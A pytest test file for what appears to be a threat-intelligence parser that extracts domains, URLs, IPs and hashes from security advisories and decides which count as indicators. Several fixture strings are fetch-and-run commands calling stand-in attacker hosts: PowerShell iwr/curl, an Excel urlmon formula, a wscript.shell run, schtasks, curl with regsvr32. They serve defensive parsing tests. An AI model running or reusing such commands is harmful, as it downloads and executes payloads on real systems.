"""Running text: listed values and mere mentions, line by line."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lamsach.indicators.judge.mentions import Prose
from lamsach.indicators.judge.sections import Section
from lamsach.indicators.lists import read_list
from lamsach.indicators.values import refusals
from lamsach.indicators.values.refusals import Refused
from lamsach.model import Indicator, Problem


def judge_last_line(*lines: str) -> list[tuple[str, str | None]]:
    """Return value and reason (None: accepted) of every typed item in the last line."""
    prose = Prose()
    found = []
    for line in lines:
        found = prose.line(line)
    return [
        (item.value or "", item.reason) if isinstance(item, Refused) else (item[1], None)
        for item in found
        if not isinstance(item, Refused) or item.type is not None
    ]


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        # code
        (
            ["var a=new ActiveXObject('wscript.shell'); a.run('http://evil-a.top/x')"],
            [("wscript.shell", refusals.CODE), ("a.run", refusals.CODE), ("http://evil-a.top/x", None)],
        ),
        (
            ['powershell -c "iwr evil-b.top/s; ping google.com"'],
            [("evil-b.top/s", None), ("google.com", refusals.WELL_KNOWN)],
        ),
        (
            ['=CALL("urlmon","x",0,"h"&"ttp"&"://evil"&"-c.to"&"p/a.png",0)'],
            [("http://evil-c.top/a.png", None)],
        ),
        (["  n.open('GET', e, false)"], [("n.open", refusals.CODE)]),
        (
            ['var key = "5f4dcc3b5aa765d61d8327deb882cf99";'],
            [("5f4dcc3b5aa765d61d8327deb882cf99", refusals.CODE_HASH)],
        ),
        (
            ['| where SHA1 != "a" && SHA256 in ("' + "0f" * 32 + '", "' + "1e" * 32 + '")'],
            [("0f" * 32, None), ("1e" * 32, None)],
        ),
        (['var host = "evil-l.top"; a.open(host);'], [("evil-l.top", None), ("a.open", refusals.CODE)]),
        (["powershell -w hidden curl -k evil-m.top"], [("evil-m.top", None)]),
        (["powershell -c ping benign-a.com"], [("benign-a.com", refusals.CODE)]),
        (["schtasks /create /tn a /tr \"cmd /c echo open evil-r.top>s&echo b>>s\""], [("evil-r.top", None)]),
        (["if (document.location.host) {"], [("document.location.host", refusals.CODE)]),
        # values not to be blocked, until the next heading
        (["Domains:", "evil-s[.]top", "Whitelist", "good-a[.]top"], [("good-a.top", refusals.ALLOWED)]),
        (["3. Danh sách trắng tên miền:", "good-a.top"], [("good-a.top", refusals.ALLOWED)]),
        (["Do not block:", "good-a.top", "C2 servers:", "evil-s.top"], [("evil-s.top", None)]),
        (["Not on any whitelist so far", "evil-s.top"], [("evil-s.top", None)]),
        # lists within sentences, as dispatches write them
        (["- evil-n.top, evil-o.top;"], [("evil-n.top", None), ("evil-o.top", None)]),
        (["Tên miền evil-p.top(Mozi);"], [("evil-p.top", None)]),
        (["máy chủ (C2) evil-q.top;"], [("evil-q.top", None)]),
        (["qXy.run(aBc, 0, false);"], [("qxy.run", refusals.CODE)]),
        (["Join-Path $a 'WWW.zip'"], [("www.zip", refusals.FILE_NAME)]),
        (
            ["Mozilla/5.0 (compatible; bot-a.com/x; +http://bot-b.com/about)"],
            [("bot-a.com/x", refusals.BESIDE), ("http://bot-b.com/about", refusals.BESIDE)],
        ),
        # checksums of files
        (
            ["MD5 (setup-a.com) = 5f4dcc3b5aa765d61d8327deb882cf99"],
            [("setup-a.com", refusals.FILE_NAME), ("5f4dcc3b5aa765d61d8327deb882cf99", None)],
        ),
        # keys and versions
        (["Password: 203.0.113.5"], [("203.0.113.5", refusals.CODE)]),
        (
            [f"evil-v.top:2404:1|...|{'.|...|' * 8}5F4DCC3B5AA765D61D8327DEB882CF99|...|0"],
            [("evil-v.top", None), ("5f4dcc3b5aa765d61d8327deb882cf99", refusals.CODE_HASH)],
        ),
        (
            ["License Code: 5F4DCC3B5AA765D61D8327DEB882CF99"],
            [("5f4dcc3b5aa765d61d8327deb882cf99", refusals.CODE_HASH)],
        ),
        (["NanoCore Client, Version=1.2.2.0, Culture=neutral"], [("1.2.2.0", refusals.VERSION)]),
        (["phiên bản 5.6.7.8 kết nối 203.0.113.9"], [("5.6.7.8", refusals.VERSION), ("203.0.113.9", None)]),
        # files under a heading of hashes
        (["PAYLOAD FILE HASHES", "Deal.one"], [("deal.one", refusals.FILE_NAME)]),
        (["Mã băm:", "test.sh"], [("test.sh", refusals.FILE_NAME)]),
        (["Mã băm MD5:", "5f4dcc3b5aa765d61d8327deb882cf99", "evil-r.top"], [("evil-r.top", None)]),
        (["Danh sách mã băm và tên miền:", "evil.one"], [("evil.one", None)]),
        (["FILE HASHES", "C2 DOMAINS", "deal.one"], [("deal.one", None)]),
        (["FILE HASHES", "deal[.]one"], [("deal.one", None)]),
        # mail
        (["SUBJECTS OBSERVED", "Migrating from sign-a.com"], [("sign-a.com", refusals.IN_SENTENCE)]),
        (["ernest irvine-a.net <help@evil-d.top>"], [("irvine-a.net", refusals.IN_SENTENCE)]),
        # references
        (["References:", "https://blog-a.com/post"], [("https://blog-a.com/post", refusals.REFERENCE)]),
        (["Tài liệu tham khảo", "https://blog-a.com/post"],
         [("https://blog-a.com/post", refusals.REFERENCE)]),
        (["Tài liệu tham khảo", "Phụ lục 1. Danh sách địa chỉ", "http://evil-s.top/a"],
         [("http://evil-s.top/a", None)]),
        (["Nguồn lây nhiễm:", "http://evil-t.top/a"], [("http://evil-t.top/a", None)]),
        (["SENDER DOMAINS", "evil-u.top"], [("evil-u.top", None)]),
        (["Tài liệu tham khảo", "hxxps://evil-e[.]top/post"], [("https://evil-e.top/post", None)]),
        (
            ["Theo https://ncsc.gov.vn/canh-bao/1 thì máy chủ là evil-f[.]top."],
            [("https://ncsc.gov.vn/canh-bao/1", refusals.REFERENCE), ("evil-f.top", None)],
        ),
        (["See github.com/evil-a/loader for it"], [("github.com/evil-a/loader", None)]),
        (["Built with ASP.NET and google.com"],
         [("asp.net", refusals.WELL_KNOWN), ("google.com", refusals.WELL_KNOWN)]),
        # apps
        (
            ["Game Pro 5f4dcc3b5aa765d61d8327deb882cf99 org.game.top"],
            [("5f4dcc3b5aa765d61d8327deb882cf99", None), ("org.game.top", refusals.PACKAGE)],
        ),
        (
            ["App name SHA256 Package Name", f"Game {'5f4dcc3b' * 8} fr.game.pro"],
            [("5f4dcc3b" * 8, None), ("fr.game.pro", refusals.PACKAGE)],
        ),
        # what stays an indicator
        (["The malware connects to evil-g.top every hour"], [("evil-g.top", None)]),
        (["203.0.113.5:443"], [("203.0.113.5", None)]),
        (["http://evil-h.top/a(1).php"], [("http://evil-h.top/a(1).php", None)]),
        (["'https://evil-i.top/editContent',"], [("https://evil-i.top/editContent", None)]),
        (["curl -O http://203.0.113.5/1.dat&&regsvr32 x"], [("http://203.0.113.5/1.dat", None)]),
        (["srs0=a=b=evil-j.top=name@evil-k.top"], []),
    ],
)  # fmt: skip
def test_mere_mentions_are_not_listed(lines: list[str], expected: list[tuple[str, str | None]]) -> None:
    assert judge_last_line(*lines) == expected


def test_the_threat_that_a_line_names_holds_for_the_lines_below() -> None:
    prose = Prose()
    prose.line("Malware family: Mirai")
    assert prose.threat == "Mirai"
    prose.line("Mã độc: **Mozi**")
    assert prose.threat == "Mozi"
    prose.line("Threat: hxxp://evil-a[.]top/x")
    assert prose.threat == "Mozi"


def test_a_page_header_lists_nothing() -> None:
    prose = Prose()
    prose.section = Section.MARGIN
    found = prose.line("CỤC A - evil-a.top - 203.0.113.5")
    assert [item.reason for item in found if isinstance(item, Refused)] == [refusals.MARGIN] * 2
    prose.heading("REFERENCES")
    assert prose.section is Section.MARGIN


@pytest.mark.parametrize("unit", ["x evil-a.top ", "MD5 (evil-a.top) = ", "evil-a.top <a@evil-b.top> "])
def test_a_long_line_of_names_is_read_in_linear_time(unit: str) -> None:
    # A scan of the whole line for each of its names would keep this from ending.
    assert len(Prose().line(unit * 10_000)) >= 10_000


@given(st.text(alphabet="ab.:/[]()<>@#=|`*\"'\\$&; \tx0123456789-évp", max_size=200))
def test_any_text_is_read(text: str) -> None:
    prose = Prose()
    for line in (text, text):
        for item in prose.line(line):
            assert isinstance(item, Refused) or item[1]


def test_a_line_as_long_as_a_book_is_read_in_pieces() -> None:
    values = [f"evil-{number}.site" for number in range(3000)]
    line = " and ".join(value.replace(".", "[.]") for value in values)
    assert [found[1] for found in Prose(advisory=True).line(line) if not isinstance(found, Refused)] == values
    assert Prose().line("a" * 100_000) == []


def test_a_text_that_begins_with_a_footnote_is_no_json(tmp_path: Path) -> None:
    path = tmp_path / "list.txt"
    path.write_text(
        "[1] https://blog.vendor.example/post\nC2: evil-one[.]site\n[2] hxxp://evil-two[.]site/a\n"
    )
    problems: list[Problem] = []
    accepted = {item.value for item in read_list(str(path), problems.append) if isinstance(item, Indicator)}
    assert problems == []
    assert accepted == {"evil-one.site", "http://evil-two.site/a"}


def test_the_publishers_name_below_a_document_is_mentioned_unless_it_is_defanged() -> None:
    (signed,) = Prose(advisory=True).line("www.ncsc.gov.vn")
    assert isinstance(signed, Refused)
    assert signed.reason == refusals.WELL_KNOWN
    (listed,) = Prose(advisory=True).line("www.ncsc[.]gov[.]vn")
    assert not isinstance(listed, Refused)
